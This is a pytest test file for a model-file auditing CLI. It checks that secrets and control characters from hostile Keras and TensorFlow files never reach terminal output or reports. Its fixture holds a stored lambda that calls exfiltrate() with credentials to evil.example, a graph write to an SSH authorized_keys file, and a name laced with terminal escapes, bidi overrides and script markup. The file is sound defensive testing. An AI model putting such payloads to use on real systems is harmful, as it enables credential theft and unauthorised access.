"""Nothing secret and nothing dangerous of a hostile file reaches a terminal or a report."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from logitcheck.cli import app
from logitcheck.guard import guarded
from logitcheck.wiring import FORMATS
from tests.hostile.config_attacks import function, stored_lambda
from tests.hostile.graph_attacks import frozen, graph_def, reaching
from tests.hostile.keras_files import dense, layer, sequential, write_hdf5, write_zip

NASTY = "\x1b]0;pwn\x07\x1b[31mred\u202eexe\u2066\n<script>alert(1)</script>[bold]\r\x9b2J"
"""A name with terminal sequences, text that runs backwards, markup and line ends."""

CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069]")
SECRETS = ("hunter2", "passw0rd", "TOKENabc", "Ab3dAb3d", "alice", "exfiltrate", "SIGNATURE1")


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An HDF5 file, a zip and a graph full of secrets and control characters, under such a name."""
    place = tmp_path_factory.mktemp("leaks")
    code = stored_lambda("exfiltrate('https://bob:hunter2@evil.example/?sig=SIGNATURE1')")
    model = sequential(
        layer("Lambda", function=code, function_type="lambda"),
        layer("StringLookup", vocabulary="https://bob:passw0rd@example.org/v.txt?token=TOKENabc123"),
        layer(NASTY, "/home/alice/project/secrets"),
        dense(NASTY, activation=function("/home/alice/x", "hf_" + "Ab3d" * 8)),
    )
    (place / "old").mkdir()
    write_hdf5(place / "old", model).rename(place / "old" / f"{NASTY.replace('/', '')}.h5")
    (place / "new").mkdir()
    write_zip(place / "new", model)
    write = reaching("WriteFile", "/home/alice/.ssh/authorized_keys", "token=hunter2-and-more")
    frozen(place, graph_def(write))
    return place


def shown(capsys: pytest.CaptureFixture[str], *words: str) -> str:
    """What a command prints on both streams."""
    guarded(lambda: app(["audit", "--no-probe", *words], standalone_mode=False))
    printed = capsys.readouterr()
    return printed.out + printed.err


def texts(value: Any) -> list[str]:
    """Every text in a JSON value."""
    if isinstance(value, dict):
        return [text for pair in value.items() for item in pair for text in texts(item)]
    if isinstance(value, list):
        return [text for item in value for text in texts(item)]
    return [value] if isinstance(value, str) else []


@pytest.mark.parametrize("words", [*(["--format", name] for name in FORMATS), ["-v"], ["-q"]], ids=" ".join)
def test_no_secret_and_no_control_character_is_shown(
    words: list[str], folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = shown(capsys, *words, str(folder))
    assert "script" in text or "-q" in words
    assert not CONTROL.search(text)
    assert [secret for secret in SECRETS if secret in text] == []


def test_secrets_are_shown_to_who_asks_for_them(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = shown(capsys, "--show-strings", "-v", str(folder))
    assert "alice" in text and "passw0rd" in text and not CONTROL.search(text)


def test_json_holds_the_names_escaped_and_whole(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    found = json.loads(shown(capsys, "--format", "json", str(folder / "new")))
    assert any(NASTY in text for text in texts(found))


@pytest.mark.parametrize(
    "words",
    [
        [f"/nowhere/{NASTY}"],
        [f"--{NASTY}"],
        ["--select", NASTY, "x.h5"],
        ["--loss", f"{NASTY}=mse=x", "x.h5"],
        ["--input-range", NASTY, "x.h5"],
        ["--probe-data", NASTY, "x.h5"],
        ["--output", f"/nowhere/{NASTY}/report.json", "x.h5"],
        ["--fail-on", NASTY, "x.h5"],
    ],
)
def test_complaints_about_words_are_one_clean_line(
    words: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    guarded(lambda: app(["audit", "--no-probe", *words], standalone_mode=False))
    printed = capsys.readouterr()
    assert not CONTROL.search(printed.out + printed.err)
    assert printed.err.count("\n") <= 1
